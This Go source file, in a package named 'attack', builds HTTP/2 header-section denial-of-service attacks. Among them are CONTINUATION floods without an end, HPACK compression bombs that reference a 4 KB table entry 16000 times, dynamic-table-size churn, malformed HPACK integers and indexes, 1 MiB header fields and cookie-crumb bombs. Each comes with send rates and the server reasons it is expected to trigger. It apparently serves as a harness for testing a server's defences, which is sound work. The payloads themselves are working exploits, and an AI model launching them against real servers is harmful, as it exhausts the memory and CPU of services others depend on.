//go:build linux

package attack

import (
	"bytes"
	"fmt"
	"strings"

	"golang.org/x/net/http2"
)

// heads are attacks on the memory and the time that a header section takes.
func heads() []attack {
	endless := []string{"http2_continuation_flood", "http2_head_bomb"}
	tiny := []string{"http2_continuation_flood", "http2_empty_frames"}
	// Nothing may come between the frames of a block, so SETTINGS are not acknowledged.
	unfinished := func(p *peer) { p.add(http2.FrameHeaders, endStream, 1, p.head("GET", "/")) }
	// The literals are never indexed, so that nothing keeps them but the section itself.
	literals := bytes.Repeat([]byte("\x10\x03x-a\x10"+strings.Repeat("v", 16)), 40)
	bomb := []string{"http2_head_bomb"}
	return []attack{
		{name: "continuation-endless", what: "CONTINUATION of 880 bytes without an end", rate: 4000, conns: 4, begin: unfinished, quiet: true,
			step:  func(p *peer) { p.add(http2.FrameContinuation, 0, 1, literals) },
			sends: map[string]int{"CONTINUATION": 1}, reasons: endless, ends: []string{calm}},
		{name: "continuation-of-1", what: "CONTINUATION of one byte", rate: 10_000, conns: 4, begin: unfinished, quiet: true,
			step: func(p *peer) {
				p.add(http2.FrameContinuation, 0, 1, literals[p.n%len(literals):][:1])
				p.n++
			},
			sends: map[string]int{"CONTINUATION of 1": 1}, reasons: tiny, ends: []string{calm}},
		{name: "continuation-empty", what: "CONTINUATION of no byte", rate: 10_000, conns: 4, begin: unfinished, quiet: true,
			step:  func(p *peer) { p.add(http2.FrameContinuation, 0, 1, nil) },
			sends: map[string]int{"CONTINUATION of 0": 1}, reasons: tiny, ends: []string{calm}},
		{name: "fields", what: "a request with 4000 fields", rate: 100, conns: 2,
			step: func(p *peer) {
				p.section(append(p.head("GET", "/"), bytes.Repeat([]byte("\x00\x03x-a\x01v"), 4000)...))
			},
			sends: map[string]int{"HEADERS": 1, "CONTINUATION": 1}, reasons: bomb},
		{name: "long-value", what: "a request with a field of 1 MiB", rate: 20, conns: 2,
			step: func(p *peer) {
				// The length is an HPACK integer: 127, and the rest in groups of 7 bits.
				head := append(append(p.head("GET", "/"), "\x00\x03x-a\x7f"...), 0x81, 0xff, 0x3f)
				p.section(append(head, bytes.Repeat([]byte("v"), 1<<20)...))
			},
			sends: map[string]int{"HEADERS": 1, "CONTINUATION": 64}, reasons: endless},
		{name: "hpack-bomb", what: "16000 references to an entry of 4 KB", rate: 40, conns: 2,
			step: func(p *peer) {
				head := p.head("GET", "/")
				entry := p.fields("x-a", strings.Repeat("v", 4000)) // the newest entry of the table: index 62
				p.section(append(append(head, entry...), bytes.Repeat([]byte{0x80 | 62}, 16000)...))
			},
			sends: map[string]int{"HEADERS": 1}, reasons: bomb, ends: []string{calm}},
		{name: "hpack-table-size", what: "16000 changes of the dynamic table's size", rate: 40, conns: 2,
			step: func(p *peer) {
				block := append(bytes.Repeat([]byte{0x20, 0x3f, 0xe1, 0x1f}, 4000), p.head("GET", "/")...)
				p.add(http2.FrameHeaders, endHeaders|endStream, p.stream, block)
				p.stream += 2
			},
			sends: map[string]int{"HEADERS": 1}, reasons: []string{"http2_compression", "http2_head_bomb"}, ends: []string{calm, compression}},
		{name: "hpack-bad-index", what: "a reference beyond the table", rate: 200, conns: 4,
			step: func(p *peer) {
				p.add(http2.FrameHeaders, endHeaders|endStream, p.stream, []byte{0xff, 0xff, 0xff, 0x7f})
				p.stream += 2
			},
			sends: map[string]int{"HEADERS": 1}, reasons: []string{"http2_compression"}, ends: []string{compression}},
		{name: "hpack-long-integer", what: "an integer that does not end", rate: 200, conns: 4,
			step: func(p *peer) {
				p.add(http2.FrameHeaders, endHeaders|endStream, p.stream, bytes.Repeat([]byte{0xff}, 16000))
				p.stream += 2
			},
			sends: map[string]int{"HEADERS": 1}, reasons: []string{"http2_compression"}, ends: []string{compression}},
		{name: "hpack-churn", what: "a request whose fields push each other out of the table", rate: 500, conns: 4,
			step: func(p *peer) {
				pairs := []string{}
				for i := range 8 {
					pairs = append(pairs, "x-a", fmt.Sprint(p.n, i, strings.Repeat("v", 1500)))
				}
				p.n++
				p.open("GET", "/", endStream, pairs...)
			},
			sends: map[string]int{"HEADERS": 1}},
		{name: "cookie-crumbs", what: "a request with 8000 cookies of one crumb", rate: 50, conns: 2,
			step: func(p *peer) {
				head := p.head("GET", "/")
				crumb := p.fields("cookie", "a=b") // from now on index 62
				p.section(append(append(head, crumb...), bytes.Repeat([]byte{0x80 | 62}, 8000)...))
			},
			sends: map[string]int{"HEADERS": 1}, reasons: bomb, ends: []string{calm}},
	}
}

// section queues a request's whole block in as many frames as that takes. Whoever encodes
// does so in the order of the block: that is the order of the tables' entries.
func (p *peer) section(block []byte) {
	id, most := p.stream, 16<<10
	p.stream += 2
	kind, flags := http2.FrameHeaders, byte(endStream)
	for {
		part := block[:min(len(block), most)]
		block = block[len(part):]
		if len(block) == 0 {
			flags |= endHeaders
		}
		p.add(kind, flags, id, part)
		if len(block) == 0 {
			return
		}
		kind, flags = http2.FrameContinuation, 0
	}
}
